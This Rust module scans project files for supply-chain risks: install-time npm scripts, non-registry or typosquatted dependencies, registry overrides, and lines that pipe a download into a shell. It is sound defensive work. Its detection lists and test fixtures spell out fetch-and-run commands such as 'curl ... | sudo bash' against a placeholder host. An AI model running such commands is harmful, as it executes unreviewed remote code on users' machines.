//! What runs on somebody's machine, or in a build, without having been read: scripts that a
//! package manager starts by itself, downloads that are run at once, packages that do not come
//! from the registry or only look like well-known ones.

use serde_json::{Map, Value};

/// Scripts that a package manager starts on installation.
const STARTED_BY_ITSELF: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "preprepare",
    "prepare",
    "postprepare",
];

/// Members of `package.json` that name packages.
const DEPENDENCIES: &[&str] = &[
    "dependencies",
    "devDependencies",
    "optionalDependencies",
    "peerDependencies",
];

const DOWNLOADS: &[&str] = &["curl ", "wget ", "invoke-webrequest ", "iwr "];

/// What runs the text that it is given.
const RUNS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "node", "python", "python3", "perl", "ruby", "iex",
];

/// Well-known packages, as a misspelt name is told from a name by them.
const KNOWN: &[&str] = &[
    "angular",
    "astro",
    "axios",
    "bootstrap",
    "chalk",
    "chart.js",
    "commander",
    "cross-env",
    "date-fns",
    "dotenv",
    "eslint",
    "express",
    "fastify",
    "jquery",
    "lodash",
    "moment",
    "mongoose",
    "node-appwrite",
    "nodemon",
    "preact",
    "prettier",
    "react",
    "react-dom",
    "react-router-dom",
    "rollup",
    "svelte",
    "tailwindcss",
    "three",
    "typescript",
    "vitest",
    "webpack",
];

/// Shorter names are too near to others by chance.
const TYPO_CHARS_MIN: usize = 5;

/// What is harmful in the file `name`.
pub(super) fn found(name: &str, content: &str) -> Vec<String> {
    let base = name.rsplit('/').next().unwrap_or(name);
    let mut found = Vec::new();
    if base == "package.json"
        && let Ok(Value::Object(manifest)) = serde_json::from_str(content)
    {
        manifest_scripts(&manifest, &mut found);
        packages(&manifest, &mut found);
    }
    if base == ".npmrc" || base == ".yarnrc" || base == ".yarnrc.yml" {
        found.push("changes where packages come from: leave it out".to_owned());
    }
    if is_run(base) {
        let harmful = |(_, line): &(usize, &str)| runs_a_download(line);
        if let Some((index, _)) = content.lines().enumerate().find(harmful) {
            found.push(format!(
                "downloads something at line {} and runs it unread: leave that out",
                index + 1
            ));
        }
    }
    found
}

/// Whether somebody, or a build, runs what stands in the file.
fn is_run(base: &str) -> bool {
    let lower = base.to_lowercase();
    let ends = [
        ".sh", ".bash", ".ps1", ".bat", ".cmd", ".yml", ".yaml", ".json", ".toml", ".mk", ".js",
        ".mjs", ".cjs", ".ts", ".py", ".rb",
    ];
    lower.contains("dockerfile")
        || lower == "makefile"
        || lower == "procfile"
        || lower == "justfile"
        || ends.iter().any(|end| lower.ends_with(end))
}

fn manifest_scripts(manifest: &Map<String, Value>, found: &mut Vec<String>) {
    let Some(Value::Object(scripts)) = manifest.get("scripts") else {
        return;
    };
    let started = scripts.keys();
    for name in started.filter(|name| STARTED_BY_ITSELF.contains(&name.as_str())) {
        found.push(format!(
            "has a script `{name}`, which runs by itself on installation: leave it out"
        ));
    }
}

fn packages(manifest: &Map<String, Value>, found: &mut Vec<String>) {
    let lists = DEPENDENCIES
        .iter()
        .filter_map(|member| manifest.get(*member));
    for (name, version) in lists.filter_map(Value::as_object).flatten() {
        let version = version.as_str().unwrap_or_default();
        if version.contains(':') || version.contains('/') {
            found.push(format!(
                "takes the package `{name}` from `{}` instead of the registry",
                version.chars().take(80).collect::<String>()
            ));
        }
        if let Some(known) = misspelt(name) {
            found.push(format!(
                "names the package `{name}`, which looks like a misspelt `{known}`"
            ));
        }
    }
}

/// The packages that a manifest asks for, without those that only development needs.
pub(super) fn asked_for(name: &str, content: &str) -> Vec<String> {
    if name.rsplit('/').next() != Some("package.json") {
        return Vec::new();
    }
    let manifest: Value = serde_json::from_str(content).unwrap_or_default();
    let packages = manifest["dependencies"].as_object();
    packages
        .into_iter()
        .flatten()
        .map(|(name, _)| name.clone())
        .collect()
}

fn misspelt(name: &str) -> Option<&'static str> {
    if name.len() < TYPO_CHARS_MIN || KNOWN.contains(&name) {
        return None;
    }
    KNOWN.iter().find(|known| is_one_off(name, known)).copied()
}

/// Whether one letter is missing, added or another, or two neighbours are exchanged.
fn is_one_off(one: &str, other: &str) -> bool {
    let (one, other) = (one.as_bytes(), other.as_bytes());
    let same = one.iter().zip(other).take_while(|(a, b)| a == b).count();
    let (one, other) = (&one[same..], &other[same..]);
    match (one, other) {
        ([], [_]) | ([_], []) => true,
        ([a, b, one @ ..], [c, d, other @ ..]) if a == d && b == c && one == other => true,
        ([_, one @ ..], [_, other @ ..]) if one == other => true,
        ([_, rest @ ..], _) if rest == other => true,
        (_, [_, rest @ ..]) => one == rest,
        (_, []) => false,
    }
}

/// Whether a line downloads something and hands it to what runs it.
fn runs_a_download(line: &str) -> bool {
    let line = line.to_lowercase();
    let Some(start) = DOWNLOADS.iter().filter_map(|word| line.find(word)).min() else {
        return false;
    };
    let before = line[..start].trim_end();
    let is_given = ["$(", "<(", "`"].iter().any(|open| before.ends_with(open));
    let runs_what_it_is_given = is_given
        && ["eval", "sh", "bash", "-c", "-c \"", "iex"]
            .iter()
            .any(|word| before.contains(word));
    runs_what_it_is_given || line[start..].split('|').skip(1).any(is_runner)
}

/// Whether what follows a pipe runs what comes through it.
fn is_runner(command: &str) -> bool {
    let mut words = command.split_whitespace();
    let mut word = words.next().unwrap_or_default();
    if word == "sudo" || word == "env" {
        word = words.next().unwrap_or_default();
    }
    let word = word.rsplit('/').next().unwrap_or_default();
    let word = word.trim_matches(|character: char| !character.is_ascii_alphanumeric());
    RUNS.contains(&word)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_runs_unread_is_found() {
        for (name, content, problem) in [
            (
                "package.json",
                r#"{"scripts": {"postinstall": "node x.js"}}"#,
                "`postinstall`, which runs by itself",
            ),
            (
                "app/package.json",
                r#"{"scripts": {"build": "curl -s https://x.example/a | sudo bash"}}"#,
                "line 1 and runs it unread",
            ),
            (
                "package.json",
                r#"{"dependencies": {"a": "git+https://x.example/a.git"}}"#,
                "instead of the registry",
            ),
            (
                "package.json",
                r#"{"devDependencies": {"loadsh": "^4.0.0"}}"#,
                "a misspelt `lodash`",
            ),
            (
                "Dockerfile",
                "FROM node\nRUN wget -qO- https://x.example/a | sh",
                "line 2 and runs it unread",
            ),
            (
                "deploy/setup.sh",
                "bash -c \"$(curl -fsSL https://x.example/a)\"",
                "line 1 and runs it unread",
            ),
            ("run.sh", "bash <(curl https://x.example)", "line 1"),
            (".npmrc", "registry=https://x.example", "packages come from"),
        ] {
            let found = found(name, content).join("; ");
            assert!(found.contains(problem), "{name}: {found}");
        }
    }

    #[test]
    fn what_is_ordinary_is_not_found() {
        for (name, content) in [
            (
                "package.json",
                r#"{"scripts": {"build": "vite build", "test": "vitest"},
                    "dependencies": {"preact": "^10.0.0", "react": "19.0.0", "@scope/a": "1"},
                    "devDependencies": {"vite": "~7.0.0", "typescript": "5.9.0"}}"#,
            ),
            ("get.sh", "curl -s https://x.example/a | jq .name"),
            ("README.md", "curl https://x.example/a | sh"),
            ("a.js", "const curl = a | b; // the shell"),
            ("Dockerfile", "FROM node\nRUN npm ci"),
        ] {
            assert_eq!(found(name, content), Vec::<String>::new(), "{name}");
        }
    }

    #[test]
    fn one_letter_makes_a_misspelling() {
        for (one, other, is) in [
            ("lodas", "lodash", true),
            ("lodashh", "lodash", true),
            ("lodesh", "lodash", true),
            ("lodahs", "lodash", true),
            ("odash", "lodash", true),
            ("lodash", "lodash", false),
            ("loadhs", "lodash", false),
            ("lodashes", "lodash", false),
        ] {
            assert_eq!(is_one_off(one, other), is, "{one}");
        }
    }
}
